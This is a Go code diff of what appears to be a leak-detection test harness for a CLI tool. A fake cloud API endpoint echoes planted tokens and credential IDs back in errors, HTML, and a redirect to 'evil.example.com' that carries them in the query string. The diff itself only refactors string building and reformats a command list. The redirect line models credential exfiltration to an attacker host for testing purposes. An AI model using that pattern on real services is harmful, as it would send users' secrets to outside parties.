@@ -215,13 +215,14 @@ func (p *planted) endpoint(w http.ResponseWriter, r *http.Request) {
 		ExtConfig []struct{ Value string }
 	}
 	_ = json.Unmarshal(body, &in)
-	text := r.Header.Get("X-TC-Token") + " " + forms(r.Header.Get("X-TC-Token"))
+	var text strings.Builder
+	text.WriteString(r.Header.Get("X-TC-Token") + " " + forms(r.Header.Get("X-TC-Token")))
 	if _, id, ok := strings.Cut(r.Header.Get("Authorization"), "Credential="); ok {
 		id, _, _ = strings.Cut(id, "/2")
-		text += " " + id + " " + forms(id)
+		text.WriteString(" " + id + " " + forms(id))
 	}
 	for _, param := range in.ExtConfig {
-		text += " " + param.Value + " " + forms(param.Value)
+		text.WriteString(" " + param.Value + " " + forms(param.Value))
 	}
 	fail := func(code, message string) {
 		_ = json.NewEncoder(w).Encode(map[string]any{"Response": map[string]any{"Error": map[string]string{"Code": code, "Message": message}, "RequestId": "r-1"}})
@@ -229,18 +230,18 @@ func (p *planted) endpoint(w http.ResponseWriter, r *http.Request) {
 	commit := r.Header.Get("X-TC-Action") == "CommitIntegrationTask"
 	switch {
 	case commit && in.TaskID == "refused":
-		fail("InvalidParameter", "no: "+text)
+		fail("InvalidParameter", "no: "+text.String())
 	case commit && in.TaskID == "locked":
-		fail("UnsupportedOperation", "the task is locked by 100028625403: "+text)
+		fail("UnsupportedOperation", "the task is locked by 100028625403: "+text.String())
 	case commit && in.TaskID == "unknown":
 		w.WriteHeader(http.StatusBadGateway)
-		_, _ = io.WriteString(w, "<html>"+text)
+		_, _ = io.WriteString(w, "<html>"+text.String())
 	case commit && in.TaskID == "redirected":
-		w.Header().Set("Location", "http://evil.example.com/?"+url.QueryEscape(text))
+		w.Header().Set("Location", "http://evil.example.com/?"+url.QueryEscape(text.String()))
 		w.WriteHeader(http.StatusTemporaryRedirect)
 	case commit && in.TaskID == "odd":
 		w.Header().Set("Content-Type", r.Header.Get("X-TC-Token"))
-		_, _ = io.WriteString(w, text)
+		_, _ = io.WriteString(w, text.String())
 	default:
 		r.Body = io.NopCloser(bytes.NewReader(body))
 		p.sim.ServeHTTP(w, r)
@@ -554,12 +555,32 @@ func (p *planted) visit(base string) {
 // commands says what people say beside a daemon.
 func (p *planted) commands() {
 	for _, args := range [][]string{
-		{"status"}, {"status", "--json"}, {"history"}, {"explain", "refused"}, {"explain", "unknown"}, {"explain", "odd"}, {"state", "export"}, {"state", "check"},
-		{"plan"}, {"plan", "-o", "json"}, {"plan", "-o", "markdown"}, {"plan", "-o", "github"}, {"plan", "-o", "gitlab"}, {"plan", "--against", "live", "--log-level", "debug"},
-		{"plan", "--state", "none.db"}, {"plan", "--state", "none.db", "-o", "markdown"}, {"plan", "--state", "none.db", "-o", "json"},
-		{"validate", "work"}, {"validate", "work", "-o", "json"}, {"validate", "work", "-o", "markdown"}, {"validate", "work", "-o", "github"}, {"validate", "work", "-o", "gitlab"},
+		{"status"},
+		{"status", "--json"},
+		{"history"},
+		{"explain", "refused"},
+		{"explain", "unknown"},
+		{"explain", "odd"},
+		{"state", "export"},
+		{"state", "check"},
+		{"plan"},
+		{"plan", "-o", "json"},
+		{"plan", "-o", "markdown"},
+		{"plan", "-o", "github"},
+		{"plan", "-o", "gitlab"},
+		{"plan", "--against", "live", "--log-level", "debug"},
+		{"plan", "--state", "none.db"},
+		{"plan", "--state", "none.db", "-o", "markdown"},
+		{"plan", "--state", "none.db", "-o", "json"},
+		{"validate", "work"},
+		{"validate", "work", "-o", "json"},
+		{"validate", "work", "-o", "markdown"},
+		{"validate", "work", "-o", "github"},
+		{"validate", "work", "-o", "gitlab"},
 		append(p.comment(), "--state", "none.db"),
-		{"retry", "refused"}, {"resolve", "odd", "not-applied"}, {"approve", "0123456789"},
+		{"retry", "refused"},
+		{"resolve", "odd", "not-applied"},
+		{"approve", "0123456789"},
 	} {
 		p.try(nil, args...)
 	}
